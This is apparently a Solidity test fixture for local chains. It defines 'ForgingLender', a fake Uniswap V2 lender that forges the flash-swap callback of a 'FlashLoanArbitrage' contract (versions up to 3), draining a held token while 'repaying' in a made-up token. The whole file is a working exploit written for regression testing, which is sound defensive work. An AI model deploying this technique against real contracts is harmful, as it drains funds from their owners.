// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.28;

interface IUniswapV2CalleeForged {
    function uniswapV2Call(address sender, uint256 amount0, uint256 amount1, bytes calldata data) external;
}

/// @notice Test attacker: a "lender" that, asked for a Uniswap V2 flash swap, lends nothing and
/// calls the borrower's `uniswapV2Call` with a route of its own instead of the one it was given.
/// The forged route sends `drainAmount` of `drainToken` (a token the borrower holds) into this
/// contract as if it were the route's first pair, and is "repaid" in this contract's own fake
/// token, whose balances it makes up. So this one contract plays the lender, the forged route's
/// pair and its repayment token. Its `factory()` is `claimedFactory`, or, if that is zero, itself
/// (with `getPair` naming itself), so a test can claim a factory the victim allows, or make the
/// victim's owner allow this one and reach the callback's own checks. Local chains only.
contract ForgingLender {
    /// @notice The route of `FlashLoanArbitrage` up to version 3 (the versions the forged callback
    /// drained); version 4 only runs the route it hashed before borrowing, whatever its layout.
    struct LegacyRoute {
        uint8 source;
        address lender;
        address token;
        uint256 amount;
        address[] pairs;
        address[] path;
        uint16[] feesBps;
        uint256 minProfit;
    }

    /// @notice The token the victim borrows (the lender claims to hold it as token0).
    address public immutable token0;
    /// @notice The token it steals; also claimed as token1.
    address public immutable token1;
    uint256 private immutable drainAmount;
    address private immutable claimedFactory;

    /// @notice Balances of the fake repayment token (this contract's address is the token).
    mapping(address => uint256) public balanceOf;

    constructor(address borrowedToken, address drainToken, uint256 amount, address factory_) {
        token0 = borrowedToken;
        token1 = drainToken;
        drainAmount = amount;
        claimedFactory = factory_ == address(0) ? address(this) : factory_;
    }

    function factory() external view returns (address) {
        return claimedFactory;
    }

    function getPair(address, address) external view returns (address) {
        return address(this);
    }

    function getReserves() external pure returns (uint112, uint112, uint32) {
        return (0, 0, 0);
    }

    /// @notice The fake token's transfer: the repayment the victim makes to this "lender".
    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    /// @notice As the lender (with data): the forged callback. As the forged route's pair
    /// (without data): "pays" the victim in fake tokens, enough to look like a repayable loan.
    function swap(uint256, uint256, address to, bytes calldata data) external {
        if (data.length == 0) {
            balanceOf[to] += drainAmount * 2;
            return;
        }
        address[] memory pairs = new address[](1);
        pairs[0] = address(this);
        address[] memory path = new address[](2);
        path[0] = token1;
        path[1] = address(this);
        uint16[] memory fees = new uint16[](1);
        LegacyRoute memory forged = LegacyRoute({
            source: 0,
            lender: address(this),
            token: address(this),
            amount: drainAmount,
            pairs: pairs,
            path: path,
            feesBps: fees,
            minProfit: 0
        });
        IUniswapV2CalleeForged(to).uniswapV2Call(to, drainAmount, 0, abi.encode(forged));
    }
}
